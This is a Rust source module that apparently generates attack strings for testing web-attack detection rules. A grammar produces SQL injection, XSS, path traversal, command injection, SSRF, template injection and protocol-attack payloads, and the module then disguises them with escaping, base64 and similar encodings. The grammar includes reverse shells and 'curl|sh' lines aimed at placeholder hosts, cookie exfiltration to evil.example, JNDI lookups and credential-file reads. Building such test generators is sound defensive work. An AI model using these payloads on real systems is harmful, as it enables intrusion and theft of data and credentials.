//! Attacks from grammars, one for each kind, and the disguises that they are given.
//!
//! Written from what the attacks must do, not from the expressions of the rules.

use super::random::Random;

/// The kinds of attacks that are made.
pub(super) const KINDS: [&str; 7] = [
    "sql-injection",
    "cross-site-scripting",
    "path-traversal",
    "command-injection",
    "server-side-request-forgery",
    "template-injection",
    "protocol-attack",
];

const GRAMMAR: &[(&str, &[&str])] = &[
    ("sql-injection", &[
        "§n§' §or§ '§n§'='§n§", "§w§' §or§ §nn§=§nn§ §end§", "§w§\" §or§ \"§w§\"=\"§w§", "§n§ §or§ §n§=§n§", "§n§) §or§ (§n§=§n§",
        "§w§') §or§ ('§w§'='§w§", "§w§'§end§", "-§n§' union §all§select §cols§ §end§", "-§n§ union §all§select §cols§ from §table§",
        "§n§ §or§ §delay§", "§w§' §or§ §delay§ §end§", "§n§;§stmt§§end§", "§w§'; §stmt§ §end§", "§n§ order by §nn§ §end§", "§w§' order by §n§ §end§",
        "§n§ and §n§=(select §fn§ from §table§)", "' and ascii(substring((select §col§ from §table§ limit 1),1,1))>§nn§ §end§",
        "(select §fn§)", "§n§ and (select count(*) from §table§)>§n§", "§w§' and extractvalue(1,concat(0x7e,(select §fn§)))§end§",
        "'||(select §fn§)||'", "§n§-§delay§", "§w§' having §n§=§n§ §end§", "§w§' group by §col§ having 1=1 §end§", "§n§ and exists(select * from §table§)",
        "' or §col§ like '%§w§%", "§w§' and updatexml(null,concat(0x3a,§fn§),null)§end§", "§n§ and if(§n§=§n§,§delay§,0)",
        "§n§' rlike (select (case when (§n§=§n§) then 1 else 0x28 end)) §end§", "1;exec xp_cmdshell 'dir'§end§", "' into outfile '/var/www/§w§.php' §end§",
        "§n§ union select §cols§ from information_schema.tables", "' or true§end§", "\" or true §end§", "§w§' and §n§=cast((select §fn§) as int)§end§",
    ]),
    ("or", &["or", "and", "or", "||", "&&", "xor", "OR", "oR", "AND"]),
    ("end", &["-- ", "--", "#", "-- -", "/*", ";--", "--+"]),
    ("all", &["all ", "", "distinct "]),
    ("cols", &["1,2,3", "null,null", "null,§fn§,null", "§col§,§col§", "1,§fn§,3,4", "@@version,2", "0x§hex§,2", "concat(§col§,0x3a,§col§),2"]),
    ("col", &["username", "password", "name", "email", "id", "pass_hash", "user_login"]),
    ("table", &["users", "accounts", "customers", "information_schema.tables", "mysql.user", "wp_users", "admin", "pg_shadow", "dual"]),
    ("fn", &["version()", "user()", "database()", "@@version", "current_user", "password from users limit 1", "group_concat(table_name) from information_schema.tables"]),
    ("delay", &["sleep(§n§)", "pg_sleep(§n§)", "benchmark(§nn§00000,md5(§n§))", "(select sleep(§n§))", "(select * from (select(sleep(§n§)))a)", "dbms_pipe.receive_message('a',§n§)"]),
    ("stmt", &["drop table §table§", "insert into §table§ values(1,'§w§')", "update §table§ set §col§='§w§'", "delete from §table§ where id=§n§", "waitfor delay '0:0:§n§'", "shutdown", "exec master..xp_cmdshell 'whoami'", "select pg_sleep(§n§)", "create table §w§(a int)"]),

    ("cross-site-scripting", &[
        "<script>§js§</script>", "<script src=//§host§/§w§.js></script>", "<img src=§w§ on§event§=§js§>", "\"><script>§js§</script>", "'><img src=x on§event§=§js§>",
        "<svg on§event§=§js§>", "<svg/on§event§=§js§>", "<body on§event§=\"§js§\">", "<iframe src=\"javascript:§js§\">", "<a href=\"javascript:§js§\">§w§</a>",
        "\" on§event§=\"§js§", "' on§event§='§js§' x='", "javascript:§js§", "</title><script>§js§</script>", "<details open on§event§=§js§>", "<input autofocus on§event§=§js§>",
        "<video><source on§event§=\"§js§\">", "<object data=\"javascript:§js§\">", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<math href=\"javascript:§js§\">§w§</math>", "';§js§//", "\";§js§;//", "-§js§-", "<meta http-equiv=refresh content=\"0;url=javascript:§js§\">", "<form action=\"javascript:§js§\"><input type=submit>",
        "<button formaction=\"javascript:§js§\">§w§", "<marquee on§event§=§js§>", "<svg><script>§js§</script></svg>", "<svg><animate on§event§=§js§ attributeName=x>", "<iframe srcdoc=\"<script>§js§</script>\">",
        "<style>@import'//§host§/§w§.css';</style>", "<link rel=stylesheet href=//§host§/§w§.css>", "<base href=//§host§/>", "</textarea><img src=x on§event§=§js§>", "<xss id=x tabindex=1 on§event§=§js§></xss>",
    ]),
    ("js", &["alert(§n§)", "alert('§w§')", "alert`§n§`", "prompt(§n§)", "confirm(document.domain)", "alert(document.cookie)", "eval(atob('YWxlcnQoMSk='))", "document.location='//§host§/?'+document.cookie", "fetch('//§host§/'+document.cookie)", "top['al'+'ert'](§n§)", "window['alert'](§n§)", "String.fromCharCode(88,83,83)", "(alert)(§n§)", "self.alert(§n§)", "setTimeout('alert(§n§)')", "[].constructor.constructor('alert(§n§)')()"]),
    ("event", &["error", "load", "click", "mouseover", "focus", "toggle", "animationstart", "pointerenter", "begin", "wheel", "Error", "LOAD"]),
    ("host", &["evil.example", "x.example.net", "203.0.113.§n§"]),

    ("path-traversal", &[
        "§up§§up§§up§§file§", "§up§§up§§up§§up§§up§§file§", "/§file§", "§w§/§up§§up§§up§§up§§file§", "file:///§file§", "/var/www/html/§up§§up§§up§§file§", "php://filter/convert.base64-encode/resource=§w§.php",
        "§win§", "§upw§§upw§§upw§§upw§windows\\win.ini", "§upw§§upw§boot.ini", "....//....//....//§file§", "..;/..;/..;/§file§", "§up§§up§§up§§file§%00.png", "/proc/self/§proc§", "/§file§%00", "..././..././..././§file§",
        "/WEB-INF/web.xml", "§up§§up§.env", "§up§§up§wp-config.php", "/home/§w§/.ssh/id_rsa", "§up§.git/config", "phar:///tmp/§w§.phar", "zip://§w§.jpg#§w§.php", "expect://id", "~/.aws/credentials", "/var/log/apache2/access.log", "%2e%2e%2f%2e%2e%2f%2e%2e%2f§file§", "..%252f..%252f..%252f§file§", "..%c0%af..%c0%af..%c0%af§file§",
    ]),
    ("up", &["../", "../", "../", "..//", "./../", "..%2f", "%2e%2e/"]),
    ("upw", &["..\\", "..\\", "..\\\\", "..%5c"]),
    ("file", &["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "etc/nginx/nginx.conf", "var/log/auth.log", "root/.bash_history", "etc/group", "etc/issue", "etc/ssh/sshd_config", "etc/mysql/my.cnf"]),
    ("proc", &["environ", "cmdline", "status", "fd/§n§", "maps"]),
    ("win", &["C:\\windows\\win.ini", "C:/windows/system32/drivers/etc/hosts", "c:\\boot.ini", "C:\\inetpub\\wwwroot\\web.config", "C:\\Windows\\System32\\config\\SAM", "\\\\203.0.113.9\\c$\\windows"]),

    ("command-injection", &[
        "§sep§§cmd§", "§w§§sep§§cmd§", "127.0.0.1§sep§§cmd§", "§w§ §sep§ §cmd§", "$(§cmd§)", "`§cmd§`", "§w§$(§cmd§)", "§w§`§cmd§`", "§sep§§cmd§§tail§", "§w§@example.com§sep§§cmd§", "<?php system('§cmd§'); ?>", "<?php echo shell_exec($_GET['§w§']);?>", "system('§cmd§');", "eval(base64_decode('§hex§'));",
        "() { :;}; /bin/bash -c \"§cmd§\"", "%{(#a=@java.lang.Runtime@getRuntime().exec('§cmd§'))}", "require('child_process').exec('§cmd§')", "__import__('os').system('§cmd§')", "<!--#exec cmd=\"§cmd§\" -->", "java.lang.Runtime.getRuntime().exec(\"§cmd§\")", "cmd /c §wcmd§", "§sep§powershell -enc §hex§", "& §wcmd§", "| §wcmd§", "bash -i >& /dev/tcp/203.0.113.§n§/§nn§ 0>&1", "nc -e /bin/sh 203.0.113.§n§ §nn§", "{cat,/etc/passwd}", "cat$IFS/etc/passwd", "c'a't /etc/passwd", "/???/c?t /etc/passwd", "echo §hex§ | base64 -d | sh", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=§w§",
    ]),
    ("sep", &[";", "|", "||", "&&", "&", "\n", "; ", " | ", " && "]),
    ("cmd", &["id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "wget http://203.0.113.§n§/§w§", "curl http://203.0.113.§n§/§w§.sh|sh", "sleep §n§", "ping -c §n§ 127.0.0.1", "nslookup §w§.evil.example", "cat /etc/hosts", "ls /", "python3 -c 'import os'", "rm -rf /tmp/§w§", "ps aux", "netstat -an", "echo §w§ > /tmp/§w§", "head -1 /etc/passwd", "find / -name §w§", "ifconfig"]),
    ("wcmd", &["dir c:\\", "type c:\\windows\\win.ini", "ipconfig /all", "net user", "whoami", "ping -n §n§ 127.0.0.1", "systeminfo", "powershell -c \"ls\""]),
    ("tail", &[" #", ";", " &", "|", "\n"]),

    ("server-side-request-forgery", &[
        "http://§in§/", "http://§in§:§nn§/§w§", "https://§in§/admin", "http://169.254.169.254/latest/meta-data/§w§", "http://metadata.google.internal/computeMetadata/v1/§w§", "gopher://§in§:6379/_§w§", "dict://§in§:11211/stats", "file:///etc/passwd", "http://§w§@§in§/", "http://[::1]:§nn§/", "http://[::ffff:127.0.0.1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "ldap://§in§/§w§", "http://§w§.nip.io@127.0.0.1/", "http://127.0.0.1.nip.io/", "http://169.254.170.2/v2/credentials", "http://100.100.100.200/latest/meta-data/", "//127.0.0.1:§nn§/", "http://kubernetes.default.svc/api", "jar:http://127.0.0.1!/§w§", "http://10.§n§.§n§.§n§/", "http://192.168.§n§.§n§:8080/", "http://localhost:§nn§/server-status", "tftp://§in§:69/§w§", "http://0/", "http://0.0.0.0:§nn§",
    ]),
    ("in", &["127.0.0.1", "localhost", "127.0.0.1", "10.0.§n§.§n§", "192.168.1.§n§", "172.16.§n§.§n§", "[::1]", "0.0.0.0"]),

    ("template-injection", &[
        "{{§n§*§n§}}", "${§n§*§n§}", "#{§n§*§n§}", "<%= §n§*§n§ %>", "{{'§w§'*§n§}}", "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "*{§n§*§n§}", "@(§n§+§n§)", "{php}echo `id`;{/php}", "{{constructor.constructor('alert(1)')()}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "<%= system('id') %>", "{{['id']|filter('system')}}", "{{ §nn§ + §nn§ }}", "[[${§n§*§n§}]]", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "${{§n§*§n§}}", "{§n§*§n§}", "{{range.constructor(\"return global.process.mainModule\")()}}",
    ]),

    ("protocol-attack", &[
        "§w§\r\nSet-Cookie: §w§=§n§", "§w§\r\nLocation: http://evil.example/", "§w§\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "${jndi:ldap://evil.example/§w§}", "${${lower:j}ndi:rmi://evil.example/§w§}", "${${::-j}${::-n}di:dns://x.example}", "*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "' or count(/*)=§n§ or 'a'='b", "x' or name()='§w§' or 'x'='y", "{\"$ne\": null}", "{\"$gt\":\"\"}", "'; return true; var x='", "' || this.password.match(/.*/)//", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "<!ENTITY % x SYSTEM \"http://evil.example/a.dtd\">", "O:§n§:\"§w§\":1:{s:1:\"a\";i:1;}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Zd§hex§/+==", "{\"__proto__\":{\"isAdmin\":true}}", "_$$ND_FUNC$$_function(){}()", "!!python/object/apply:os.system ['id']", "GET /§w§ HTTP/1.1\r\nHost: evil.example", "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "§w§\r\nbcc: a@evil.example", "${env:AWS_SECRET_ACCESS_KEY}", "(|(cn=*)(sn=*))", "//*[contains(name,'a')]",
    ]),
];

/// An attack of a kind.
pub(super) fn attack(random: &mut Random, kind: &str) -> String {
    random.text(GRAMMAR, kind)
}

/// How attacks are hidden.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Disguise {
    None,
    /// Letters change their case.
    Case,
    /// Every byte is escaped once more.
    Escaped,
    /// Some bytes are escaped once more.
    HalfEscaped,
    /// Harmless words stand before it.
    Prefixed,
    /// Harmless words stand behind it.
    Suffixed,
    /// White space is written otherwise.
    Spaced,
    /// The whole is base64.
    Base64,
    /// Characters of markup are entities of HTML.
    Entities,
    /// Characters of markup are escapes of JavaScript.
    Unicode,
}

/// Those by which the rules were written.
pub(super) const KNOWN: [Disguise; 6] = [
    Disguise::None,
    Disguise::None,
    Disguise::Case,
    Disguise::Escaped,
    Disguise::Prefixed,
    Disguise::Base64,
];

/// Those that were added when the rules were done.
pub(super) const UNSEEN: [Disguise; 5] = [
    Disguise::HalfEscaped,
    Disguise::Suffixed,
    Disguise::Spaced,
    Disguise::Entities,
    Disguise::Unicode,
];

/// The disguised attack.
pub(super) fn disguise(random: &mut Random, how: Disguise, attack: &str) -> String {
    let escape = |byte: u8| format!("%{byte:02x}");
    match how {
        Disguise::None => attack.to_owned(),
        Disguise::Case => {
            // Names of methods and files of Java, JavaScript and Unix have one case.
            let is_sensitive = ["java", "(", "__", "O:", "rO0", "$", "/"].iter().any(|mark| attack.contains(mark));
            let change = |letter: char| if random.once_in(2) { letter.to_ascii_uppercase() } else { letter };
            if is_sensitive { attack.to_owned() } else { attack.chars().map(change).collect() }
        }
        Disguise::Escaped => attack.bytes().map(escape).collect(),
        Disguise::HalfEscaped => {
            let half = |byte: u8| if random.once_in(2) { escape(byte) } else { char::from(byte).to_string() };
            attack.bytes().map(half).collect()
        }
        Disguise::Prefixed => format!("{} {attack}", random.one(&["blue", "order 7", "Anna", "see also", "x1"])),
        Disguise::Suffixed => format!("{attack} {}", random.one(&["blue", "and more", "7", "thanks", ".jpg"])),
        Disguise::Spaced => {
            let space = random.one(&["\t", "\n", "  ", "\r\n", "+"]);
            attack.replace(' ', if attack.contains('+') { "\t" } else { space })
        }
        Disguise::Base64 => base64(attack.as_bytes()),
        Disguise::Entities => written(attack, |byte| format!("&#x{byte:x};")),
        Disguise::Unicode => written(attack, |byte| format!("\\u{byte:04x}")),
    }
}

fn written(text: &str, write: impl Fn(u8) -> String) -> String {
    let each = |byte: u8| match byte {
        b'<' | b'>' | b'\'' | b'"' | b'(' | b'/' | b'{' | b'.' => write(byte),
        _ => char::from(byte).to_string(),
    };
    text.bytes().map(each).collect()
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let padded = [group[0], *group.get(1).unwrap_or(&0), *group.get(2).unwrap_or(&0)];
        let number = u32::from(padded[0]) << 16 | u32::from(padded[1]) << 8 | u32::from(padded[2]);
        for place in 0..4 {
            let digit = number >> (18 - 6 * place) & 63;
            let is_padding = place > group.len();
            text.push(if is_padding { '=' } else { char::from(ALPHABET[digit as usize]) });
        }
    }
    text
}
